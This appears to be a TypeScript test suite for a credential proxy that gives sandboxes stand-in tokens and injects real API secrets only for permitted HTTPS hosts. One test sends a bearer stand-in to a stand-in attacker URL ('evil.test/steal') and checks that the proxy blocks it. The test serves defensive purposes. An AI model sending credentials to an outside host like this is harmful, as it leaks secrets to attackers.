import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { curlViaProxy } from '../helpers/clients.js';
import { standInOf, startWorld, type World } from '../helpers/harness/index.js';
import type { SandboxInfo } from '../../src/sdk/types.js';

/** Real values planted for this file; none may ever come back to the client. */
const REAL = {
  openai: 'sk-proj-REAL-openai-7f3a9c',
  anthropic: 'sk-ant-REAL-anthropic-51bd',
  custom: 'REAL-custom-bearer-0c4e',
  basic: 'REAL-basic-pass-9a1f',
  apikey: 'REAL-apikey-2288',
  template: 'REAL-template-7e7e',
  wild: 'REAL-wildcard-3131',
};

let world: World;
let sandboxA: SandboxInfo;
let sandboxB: SandboxInfo;

const bearer = (token: string) => ({ authorization: `Bearer ${token}` });
const standIn = (sandbox: SandboxInfo, key: string): string => standInOf(sandbox, key);
const lastSeen = () => world.upstream.seen.at(-1)!;

before(async () => {
  world = await startWorld();
  const api = world.daemon.api;
  const secrets = [
    { name: 'openai', value: REAL.openai, provider: 'openai' },
    { name: 'anthropic', value: REAL.anthropic, provider: 'anthropic' },
    { name: 'custom_bearer', value: REAL.custom, auth: { type: 'bearer' }, hosts: ['api.example.test'] },
    { name: 'basic_user', value: REAL.basic, auth: { type: 'basic', username: 'svc' }, hosts: ['basic.test'] },
    { name: 'prefixed', value: REAL.apikey, auth: { type: 'api-key', header: 'X-Api-Key', prefix: 'Key ' }, hosts: ['api.custom.test'] },
    { name: 'templated', value: REAL.template, auth: { type: 'custom', headers: { 'X-Custom-Auth': 'token={{ value }};v=1' } }, hosts: ['api.custom.test'] },
    { name: 'wild', value: REAL.wild, auth: { type: 'bearer' }, hosts: ['*.example.test'] },
  ];
  for (const body of secrets) {
    const res = await api('POST', '/secrets', body);
    assert.equal(res.status, 201, res.text);
  }
  const created = await api('POST', '/sandboxes', {
    name: 'a',
    secrets: {
      OPENAI_API_KEY: 'openai',
      ANTHROPIC_API_KEY: 'anthropic',
      CUSTOM_TOKEN: 'custom_bearer',
      BASIC_PASS: 'basic_user',
      PREFIXED_KEY: 'prefixed',
      TEMPLATED_KEY: 'templated',
      WILD_TOKEN: 'wild',
    },
  });
  assert.equal(created.status, 201, created.text);
  sandboxA = created.json;
  sandboxB = (await api('POST', '/sandboxes', { name: 'b', secrets: { OPENAI_API_KEY: 'openai' } })).json;
});

after(() => world.close());

test('bearer: the upstream receives the real value, the client never does', async () => {
  const token = standIn(sandboxA, 'OPENAI_API_KEY');
  assert.match(token, /^sk-proj-[A-Za-z0-9]{64}$/);
  const res = await world.fetchAs(sandboxA.access_token, 'https://api.openai.com/v1/models', { headers: bearer(token) });
  assert.equal(res.status, 200);
  assert.equal(lastSeen().headers.authorization, `Bearer ${REAL.openai}`);
  assert.ok(!res.text.includes(REAL.openai), 'echoed real value must be scrubbed');
  assert.ok(res.text.includes(token), 'the client sees its own stand-in in the echo');
});

test('api-key (anthropic x-api-key)', async () => {
  const token = standIn(sandboxA, 'ANTHROPIC_API_KEY');
  const res = await world.fetchAs(sandboxA.access_token, 'https://api.anthropic.com/v1/messages', {
    method: 'POST',
    headers: { 'x-api-key': token, 'content-type': 'application/json' },
    body: '{"model":"x"}',
  });
  assert.equal(res.status, 200);
  assert.equal(lastSeen().headers['x-api-key'], REAL.anthropic);
  assert.equal(lastSeen().bodyBytes, 13);
});

test('api-key with a prefix, and a custom header template', async () => {
  const res = await world.fetchAs(sandboxA.access_token, 'https://api.custom.test/x', {
    headers: {
      'x-api-key': `Key ${standIn(sandboxA, 'PREFIXED_KEY')}`,
      'x-custom-auth': `token=${standIn(sandboxA, 'TEMPLATED_KEY')};v=1`,
    },
  });
  assert.equal(res.status, 200);
  assert.equal(lastSeen().headers['x-api-key'], `Key ${REAL.apikey}`);
  assert.equal(lastSeen().headers['x-custom-auth'], `token=${REAL.template};v=1`);
});

test('basic: the password is swapped and the rule username is used', async () => {
  const client = Buffer.from(`someone:${standIn(sandboxA, 'BASIC_PASS')}`).toString('base64');
  const res = await world.fetchAs(sandboxA.access_token, 'https://basic.test/', { headers: { authorization: `Basic ${client}` } });
  assert.equal(res.status, 200);
  assert.equal(lastSeen().headers.authorization, `Basic ${Buffer.from(`svc:${REAL.basic}`).toString('base64')}`);
  assert.ok(!res.text.includes(Buffer.from(`svc:${REAL.basic}`).toString('base64')));
});

test('custom bearer secret limited to its host: elsewhere 403 and the upstream sees nothing', async () => {
  const token = standIn(sandboxA, 'CUSTOM_TOKEN');
  const ok = await world.fetchAs(sandboxA.access_token, 'https://api.example.test/', { headers: bearer(token) });
  assert.equal(ok.status, 200);
  assert.equal(lastSeen().headers.authorization, `Bearer ${REAL.custom}`);

  const before = world.upstream.requests;
  const denied = await world.fetchAs(sandboxA.access_token, 'https://evil.test/steal', { headers: bearer(token) });
  assert.equal(denied.status, 403);
  assert.equal(denied.headers['x-credproxy-reason'], 'credential_host_mismatch');
  assert.equal(denied.headers['x-credproxy-error'], 'true');
  assert.equal(world.upstream.requests, before, 'nothing was forwarded');
});

test('*.example.test matches exactly one more label', async () => {
  const token = standIn(sandboxA, 'WILD_TOKEN');
  const one = await world.fetchAs(sandboxA.access_token, 'https://a.example.test/', { headers: bearer(token) });
  assert.equal(one.status, 200);
  assert.equal(lastSeen().headers.authorization, `Bearer ${REAL.wild}`);
  for (const host of ['example.test', 'b.a.example.test']) {
    const res = await world.fetchAs(sandboxA.access_token, `https://${host}/`, { headers: bearer(token) });
    assert.equal(res.status, 403, host);
    assert.equal(res.headers['x-credproxy-reason'], 'credential_host_mismatch');
  }
});

test('several stand-ins in one request are all swapped', async () => {
  const res = await world.fetchAs(sandboxA.access_token, 'https://api.custom.test/both', {
    headers: {
      'x-api-key': `Key ${standIn(sandboxA, 'PREFIXED_KEY')}`,
      'x-custom-auth': `token=${standIn(sandboxA, 'TEMPLATED_KEY')};v=1`,
    },
  });
  assert.equal(res.status, 200);
  assert.ok(!res.text.includes(REAL.apikey) && !res.text.includes(REAL.template));
});

test('a request without stand-ins passes through untouched', async () => {
  const res = await world.fetchAs(sandboxA.access_token, 'https://api.openai.com/public', { headers: { authorization: 'Bearer not-a-stand-in' } });
  assert.equal(res.status, 200);
  assert.equal(lastSeen().headers.authorization, 'Bearer not-a-stand-in');
});

test('cleartext http never gets a credential', async () => {
  const res = await world.fetchAs(sandboxA.access_token, 'http://api.openai.com/v1/models', { headers: bearer(standIn(sandboxA, 'OPENAI_API_KEY')) });
  assert.equal(res.status, 403);
  assert.equal(res.headers['x-credproxy-reason'], 'cleartext_injection_refused');
  const plain = await world.fetchAs(sandboxA.access_token, 'http://api.openai.com/open');
  assert.equal(plain.status, 200, 'plain http without a stand-in is forwarded');
});

test('no or bad proxy credentials: 407 with a Basic challenge (curl, CONNECT and absolute-URI)', async () => {
  const port = Number(world.daemon.daemon.proxyAddress.split(':')[1]);
  for (const user of [[], ['--proxy-user', 'sb:wrong-token']]) {
    for (const url of ['https://api.openai.com/', 'http://api.openai.com/open']) {
      const res = await curlViaProxy(port, world.daemon.daemon.caPath, url, [...user, '--proxy-header', 'X-Probe: 1']);
      assert.equal(res.status, 407, `${url} ${user.join(' ')}`);
      assert.equal(res.headers['x-credproxy-reason'], 'proxy_auth_required');
      assert.equal(res.headers['proxy-authenticate'], 'Basic realm="credproxy"');
    }
  }
  assert.equal((await world.fetchAs('wrong-token', 'https://api.openai.com/')).status, 407);
});

test("sandbox A's stand-in through sandbox B's identity is refused", async () => {
  const before = world.upstream.requests;
  const res = await world.fetchAs(sandboxB.access_token, 'https://api.openai.com/v1/models', {
    headers: bearer(standIn(sandboxA, 'OPENAI_API_KEY')),
  });
  assert.equal(res.status, 403);
  assert.equal(res.headers['x-credproxy-reason'], 'stand_in_wrong_sandbox');
  assert.equal(world.upstream.requests, before);
  // B's own stand-in for the same secret works.
  const own = await world.fetchAs(sandboxB.access_token, 'https://api.openai.com/v1/models', { headers: bearer(standIn(sandboxB, 'OPENAI_API_KEY')) });
  assert.equal(own.status, 200);
});

test('rotate, detach, delete and sandbox delete take effect on the very next request', async () => {
  const api = world.daemon.api;
  const sb = (await api('POST', '/sandboxes', { name: 'life', secrets: { T: 'custom_bearer', U: 'wild' } })).json;
  const call = (key: string, host = 'api.example.test') => world.fetchAs(sb.access_token, `https://${host}/`, { headers: bearer(sb.env[key]) });

  assert.equal((await call('T')).status, 200);
  assert.equal((await api('PATCH', '/secrets/custom_bearer', { value: 'REAL-rotated-1' })).status, 200);
  assert.equal((await call('T')).status, 200);
  assert.equal(lastSeen().headers.authorization, 'Bearer REAL-rotated-1');

  assert.equal((await api('DELETE', `/sandboxes/${sb.id}/secrets/U`)).status, 204);
  const detached = await call('U', 'a.example.test');
  assert.equal(detached.status, 503);
  assert.equal(detached.headers['x-credproxy-reason'], 'proxy_token_revoked');

  await api('POST', '/secrets', { name: 'doomed', value: 'REAL-doomed', auth: { type: 'bearer' }, hosts: ['api.example.test'] });
  assert.equal((await api('POST', `/sandboxes/${sb.id}/secrets`, { env_key: 'D', secret_name: 'doomed' })).status, 201);
  const withD = (await api('GET', `/sandboxes/${sb.id}`)).json;
  assert.equal((await world.fetchAs(sb.access_token, 'https://api.example.test/', { headers: bearer(withD.env.D) })).status, 200);
  assert.equal((await api('DELETE', '/secrets/doomed')).status, 204);
  const revoked = await world.fetchAs(sb.access_token, 'https://api.example.test/', { headers: bearer(withD.env.D) });
  assert.equal(revoked.status, 503);
  assert.equal(revoked.headers['x-credproxy-reason'], 'credential_revoked');

  assert.equal((await api('DELETE', `/sandboxes/${sb.id}`)).status, 204);
  const gone = await call('T');
  assert.equal(gone.status, 407, 'a deleted sandbox cannot authenticate, even on an open tunnel');
});
